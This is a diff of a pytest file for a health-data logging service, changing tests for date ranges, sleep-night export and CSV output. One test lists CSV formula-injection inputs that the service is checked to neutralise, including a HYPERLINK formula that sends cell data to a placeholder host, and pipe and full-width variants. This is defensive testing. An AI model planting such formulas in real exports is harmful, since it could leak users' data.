@@ -49,8 +49,8 @@ from conftest import ROOT, TOKEN, Client, assert_no_leaks, db_rows, wait_for
 from read_helpers import (Reply, aggregate, assert_buckets_equal, assert_error,
                           assert_nights_equal, call, close, coordinate, get, get_json, in_range,
                           instant_us, iso_local, nights_by_date, numeric, raw_start, read_csv,
-                          runs_of, serve_corpus, Store, pending, utc_iso, week_items,
-                          night_items, written)
+                          runs_of, serve_corpus, sleep_dates, Store, pending, utc_iso,
+                          week_items, night_items, written)
 
 pytestmark = pytest.mark.usefixtures("json_mode")  # every test with and without orjson
 
@@ -326,13 +326,14 @@ def test_read_2_3_from_and_to_select_starts_in_a_half_open_range_in_any_spelling
     rows = read_csv(get(store.address, "/api/points", metric="step_count", format="csv",
                         from_=spellings[3][0], to=spellings[3][1]))
     assert [row[0] for row in rows[1:]] == [iso(coordinate(p)[0]) for p in want[0]["points"]]
-    # a date alone with tz an offset is that offset's midnight, echoed as the UTC instant;
-    # with tz=local (the default) it is the date written in each point, echoed as the date;
+    # a date alone with tz an offset is a whole day of that offset: `from` its midnight,
+    # `to` up to the next one (it includes its day), echoed as the UTC instants; with
+    # tz=local (the default) it is the date written in each point, echoed as the date;
     # either bound may be left open
     heart = store.corpus.points("heart_rate", "minutes")
     day9, day10 = (DAY0 + 86400) * US, (DAY0 + 2 * 86400) * US
     reply = get_json(store.address, "/api/points", metric="heart_rate", from_="2024-03-09",
-                     to="2024-03-10", tz="+00:00")
+                     to="2024-03-09", tz="+00:00")
     assert (reply["from"], reply["to"]) == ("2024-03-09T00:00:00Z", "2024-03-10T00:00:00Z")
     assert reply["runs"] == raw_runs(in_range(heart, day9, day10))
     reply = get_json(store.address, "/api/points", metric="heart_rate", from_="2024-03-10",
@@ -342,9 +343,9 @@ def test_read_2_3_from_and_to_select_starts_in_a_half_open_range_in_any_spelling
 
     def written_on(first: Optional[str], last: Optional[str]) -> list:
         return [(p, u) for p, u in heart if (first is None or raw_start(p)[:10] >= first)
-                and (last is None or raw_start(p)[:10] < last)]
+                and (last is None or raw_start(p)[:10] <= last)]
 
-    for first, last in (("2024-03-09", "2024-03-11"), (None, "2024-03-09"),
+    for first, last in (("2024-03-09", "2024-03-10"), (None, "2024-03-08"),
                         ("2024-03-11", None)):
         reply = get_json(store.address, "/api/points", metric="heart_rate", from_=first,
                          to=last)
@@ -517,7 +518,7 @@ def test_read_3_3_a_bucket_never_mixes_units(store):
 def test_read_12_2_the_corpus_stage_records_give_one_night_per_morning(store, bucket, tz):
     """The corpus's four nights of stage records (in bed from the phone, stages from the
     watch, one across the change to daylight time on 2024-03-10): one night on each morning,
-    stage hours the sums of the records' ``qty``, asleep the union of the asleep records."""
+    each stage's hours the seconds its records cover, asleep those of the asleep records."""
     reply = get_json(store.address, "/api/points", metric="sleep_analysis", bucket=bucket,
                      tz=tz)
     assert (reply["layer"], reply["tz"], reply["units"]) == ("record", tz, "hr")
@@ -528,9 +529,10 @@ def test_read_12_2_the_corpus_stage_records_give_one_night_per_morning(store, bu
         assert_nights_equal(reply["nights"], night_items(by_date, tz))
         assert [n["date"] for n in reply["nights"]] == ["2024-03-%02d" % d
                                                         for d in (9, 10, 11, 12)]
-        assert all(n["count"] == 1 and n["asleep"] > 5 for n in reply["nights"])
+        assert all(n["count"] == 1 and n["asleep"] > 5 and not n["overlapping"]
+                   and n["naps"] == [] for n in reply["nights"])
     else:
-        assert_nights_equal(reply["nights"], week_items(by_date), week=True)
+        assert_nights_equal(reply["nights"], week_items(by_date, tz), week=True)
 
 
 # ---------------------------------------------------------------------------------------------
@@ -563,11 +565,13 @@ def test_read_4_1_raw_csv_parses_back_to_the_stored_points(store, metric, layer)
         keys += [k for k in point if k not in keys]
     assert rows[0] == ["utc_start", "utc_end", "units", "local_start", "local_date"] + keys
     assert len(rows) == 1 + len(items)
+    wake_days = sleep_points_dates(items) if metric == "sleep_analysis" else {}
     for row, (point, units) in zip(rows[1:], items):
         start, end, _ = coordinate(point)
         moment = written(raw_start(point))  # the local start and date as the point wrote them
+        date = wake_days.get(coordinate(point), moment.date())  # sleep: its wake day
         assert row[:5] == [iso(start), iso(end), units or "", iso_local(moment),
-                           moment.date().isoformat()]
+                           date.isoformat()]
         for key, cell in zip(keys, row[5:]):
             if key in point:
                 assert_cell(cell, point[key])
@@ -575,6 +579,15 @@ def test_read_4_1_raw_csv_parses_back_to_the_stored_points(store, metric, layer)
                 assert cell == "", (key, row)
     if metric == "heart_rate":  # across the change to daylight time: both offsets, as written
         assert {row[3][-6:] for row in rows[1:]} == {"-08:00", "-07:00"}
+    if metric == "sleep_analysis":  # the records of each night before midnight: its morning
+        assert any(row[4] != row[3][:10] for row in rows[1:])
+
+
+def sleep_points_dates(items: list) -> dict:
+    """coordinate -> the wake day a sleep point is exported on (READ-12.5)."""
+    points = [p for p, _ in items]
+    return sleep_dates([p for p in points if "value" not in p],
+                       [p for p in points if "value" in p])
 
 
 def test_read_4_1_raw_csv_in_another_zone_and_a_key_named_like_a_column(start_service):
@@ -636,10 +649,11 @@ def test_read_4_3_sleep_bucket_csv_has_one_row_per_nights_date(store, tz):
     query = dict(metric="sleep_analysis", bucket="day", tz=tz)
     want = get_json(store.address, "/api/points", **query)
     rows = read_csv(get(store.address, "/api/points", format="csv", **query))
-    stages = sorted({s for n in want["nights"] for s in n["stages"]})
-    assert stages == ["awake", "core", "deep", "rem"]
+    stages = {s for n in want["nights"] for s in n["stages"]}
+    assert stages == {"awake", "core", "deep", "rem"}
+    stages = ["deep", "core", "rem", "awake"]  # deepest first, as drawn; awake last
     assert rows[0] == ["start", "local", "date", "count", "nights", "asleep", "in_bed"] + \
-        stages + ["sleep_start", "sleep_end", "form"]
+        stages + ["sleep_start", "sleep_end", "form", "overlapping", "naps", "nap_hours"]
     assert len(rows) == 1 + len(want["nights"]) == 5
     for row, night in zip(rows[1:], want["nights"]):
         cells = dict(zip(rows[0], row))
@@ -652,17 +666,34 @@ def test_read_4_3_sleep_bucket_csv_has_one_row_per_nights_date(store, tz):
             assert close(float(cells[key]), night[key]), key
         for stage in stages:
             assert close(float(cells[stage] or 0), night["stages"].get(stage, 0.0)), stage
+        assert (cells["overlapping"], cells["naps"], cells["nap_hours"]) == (
+            str(int(night["overlapping"])), str(len(night["naps"])), ""), cells
     weeks = read_csv(get(store.address, "/api/points", format="csv", bucket="week",
                          metric="sleep_analysis", tz=tz))
-    assert weeks[0] == ["start", "local", "date", "count", "nights", "asleep", "in_bed"] + stages
+    assert weeks[0] == ["start", "local", "date", "count", "nights", "asleep", "in_bed"] + \
+        stages + ["overlapping", "naps", "nap_hours"]
 
 
 FORMULAS = ['=HYPERLINK("http://example.invalid/?"&A2,"open")', "+SUM(1,2)", "-2+3",
-            "@SUM(A1:A9)", "\tcmd", "\r=1"]
+            "@SUM(A1:A9)", "\tcmd", "\r=1", "\n=1+1", " =1", "\n\n +1", "\u3000=2",
+            "\u00a0@SUM(1)", "|cmd", "\uff1dSUM(1)", "\uff0b1", "\uff0d1", "\uff20A1",
+            "\uff5ccmd", "\r\n-1"]
+"""Text a spreadsheet could run: OWASP's starts, the same after leading whitespace and line
+breaks, the pipe, and the full-width forms."""
+
+
+def runnable(cell: str) -> bool:
+    """Could a spreadsheet run this cell?  In this test's words: it begins with a tab or a
+    line break, or its first character after any whitespace is one of = + - @ | or their
+    full-width forms."""
+    first = cell.lstrip()[:1]
+    return cell[:1] in ("\t", "\r", "\n") or bool(first) and first in (
+        "=+-@|\uff1d\uff0b\uff0d\uff20\uff5c")
 
 
 def test_read_4_4_a_csv_cell_is_never_a_formula(start_service, data_dir):
-    """Every text cell that starts like a formula (OWASP: = + - @ tab CR) is written with
+    """Every text cell that starts like a formula (OWASP: = + - @ tab CR; also after
+    leading whitespace and line breaks, the pipe and the full-width forms) is written with
     a leading ' in raw CSV, bucket CSV and `export --format csv`; numbers stay numbers."""
     service = start_service()
     points = []
@@ -699,8 +730,7 @@ def test_read_4_4_a_csv_cell_is_never_a_formula(start_service, data_dir):
     for table in (raw, buckets):
         for row in table:
             for cell in row:
-                assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
-                assert not cell.startswith("-") or float(cell) < 0, cell
+                assert not runnable(cell) or float(cell) < 0, repr(cell)
     assert buckets[0][:5] == ["start", "local", "date", "units", "count"]
     assert buckets[1][3] == neutral(units)
     assert neutral(FORMULAS[0]) + "_sum" in buckets[0]
@@ -1022,10 +1052,17 @@ def test_read_6_2_counters_move_when_a_delivery_arrives_and_is_folded(start_serv
 
 def test_read_6_3_metrics_carry_no_health_values_or_names_of_the_users_data(store):
     text = call(store.address, "GET", "/metrics").text
-    names = {metric for metric, _ in store.corpus.posted}
-    for secret in BODY_STRINGS + tuple(names) + ("step_count", "heart_rate", "sleep",
-                                                 "medications", "symptoms"):
+    for secret in BODY_STRINGS + ("medications", "symptoms"):
         assert secret not in text, secret
+    # The metrics stored are named only by the freshness gauges (FRESH-6.1), as a label; so
+    # are the automations (whose names may hold such a word: "Read sleep").
+    names = {metric for metric, _ in store.corpus.posted} | {"step_count", "heart_rate",
+                                                             "sleep"}
+    gauges = ("healthlog_metric_newest_point_timestamp_seconds{metric=",
+              "healthlog_metric_stale{metric=", "healthlog_automation_")
+    for line in text.splitlines():
+        if any(name in line for name in names):
+            assert line.startswith(gauges), line
 
 
 # ---------------------------------------------------------------------------------------------
@@ -1362,8 +1399,9 @@ def test_read_8_3_export_to_sqlite_writes_points_and_metrics_tables(store, tmp_p
             items = store.corpus.points(metric, layer)
             assert len(rows) == len(items)
             pairs = list(zip(rows, items))
+            wake_days = sleep_points_dates(items) if metric == "sleep_analysis" else {}
             for row, (point, units) in pairs[:40] + pairs[-40:]:
-                assert_export_row(row, point, units)
+                assert_export_row(row, point, units, wake_days.get(coordinate(point)))
         # the local start and date as each point wrote them, both offsets of the DST change
         offsets = {r[0][-6:] for r in conn.execute(
             "SELECT local_start FROM points WHERE metric = 'heart_rate'")}
@@ -1377,12 +1415,15 @@ def test_read_8_3_export_to_sqlite_writes_points_and_metrics_tables(store, tmp_p
         conn.close()
 
 
-def assert_export_row(row: sqlite3.Row, point: dict, units: Optional[str]) -> None:
+def assert_export_row(row: sqlite3.Row, point: dict, units: Optional[str],
+                      wake_day: Optional[dt.date] = None) -> None:
+    """One row of the SQLite export against the point posted; ``wake_day``: a sleep point's
+    date (READ-12.5), else the date its start was written on."""
     start, end, _ = coordinate(point)
     assert (row["start"], row["end"], row["units"]) == (iso(start), iso(end), units), dict(row)
     moment = written(raw_start(point))
-    assert (row["local_start"], row["local_date"]) == (iso_local(moment),
-                                                       moment.date().isoformat()), dict(row)
+    assert (row["local_start"], row["local_date"]) == (
+        iso_local(moment), (wake_day or moment.date()).isoformat()), dict(row)
     for column, keys in (("qty", ("qty",)), ("min", ("min", "Min")), ("avg", ("avg", "Avg")),
                          ("max", ("max", "Max"))):
         given = [point[k] for k in keys if numeric(point.get(k))]
@@ -1403,6 +1444,54 @@ def test_read_8_4_export_refuses_to_overwrite_an_existing_file(store, tmp_path):
     assert out.read_bytes() == b"mine"
     lines = [line for line in result.stderr.decode().splitlines() if line.strip()]
     assert len(lines) == 1 and "Traceback" not in lines[0], lines
+
+
+def test_read_8_5_a_date_only_to_includes_its_day_on_the_command_line_as_on_the_route(store):
+    """``export --to 2024-03-09`` holds the 9th, as the page's "To" field means it: the
+    command line and the route read a date alone one way."""
+    heart = store.corpus.points("heart_rate", "minutes")
+    dates = sorted({raw_start(p)[:10] for p, _ in heart})
+    assert len(dates) >= 4, dates
+    first, last = dates[1], dates[2]  # two whole days in the middle of the data
+
+    def on(low: str, high: str) -> list:
+        return [(p, u) for p, u in heart if low <= raw_start(p)[:10] <= high]
+
+    for low, high, fmt in ((first, last, "json"), (last, last, "csv"), (first, last, "csv")):
+        query = {"metric": "heart_rate", "from": low, "to": high, "format": fmt}
+        route = get(store.address, "/api/points", **{("from_" if k == "from" else k): v
+                                                     for k, v in query.items()})
+        assert route.status == 200, route.body[:300]
+        result = export("--data", store.data_dir, "--metric", "heart_rate", "--from", low,
+                        "--to", high, "--format", fmt)
+        assert result.returncode == 0, result.stderr
+        assert result.stdout == route.body, (low, high, fmt)
+        want = on(low, high)
+        assert want and len(want) < len(heart)
+        if fmt == "json":
+            reply = json.loads(result.stdout)
+            assert (reply["from"], reply["to"]) == (low, high)  # the dates asked, both in
+            assert reply["runs"] == raw_runs(want)
+        else:
+            rows = list(csv.reader(io.StringIO(result.stdout.decode(), newline="")))
+            assert [row[4] for row in rows[1:]] == [raw_start(p)[:10] for p, _ in want]
+            assert rows[-1][4] == high  # the last day is there, to its last minute
+    # with an offset: from the first day's midnight there to the midnight after the last
+    low_us = int(dt.datetime.fromisoformat(first + "T00:00:00+00:00").timestamp()) * US
+    high_us = int(dt.datetime.fromisoformat(last + "T00:00:00+00:00").timestamp()) * US
+    high_us += 86400 * US
+    result = export("--data", store.data_dir, "--metric=heart_rate", "--tz=+00:00",
+                    "--from=" + first, "--to=" + last)
+    assert result.returncode == 0, result.stderr
+    reply = json.loads(result.stdout)
+    assert (reply["from"], reply["to"]) == (iso(low_us), iso(high_us))
+    assert reply["runs"] == raw_runs(in_range(heart, low_us, high_us))
+    # the help says it
+    helped = subprocess.run([sys.executable, str(ROOT / "healthlog.py"), "export", "--help"],
+                            capture_output=True, text=True, timeout=60)
+    assert helped.returncode == 0
+    assert ("--to TIME end of the range: a date alone (YYYY-MM-DD) includes that local day"
+            in " ".join(helped.stdout.split())), helped.stdout
 
 
 def test_read_2_7_the_object_table_holds_exactly_the_posted_points(store):
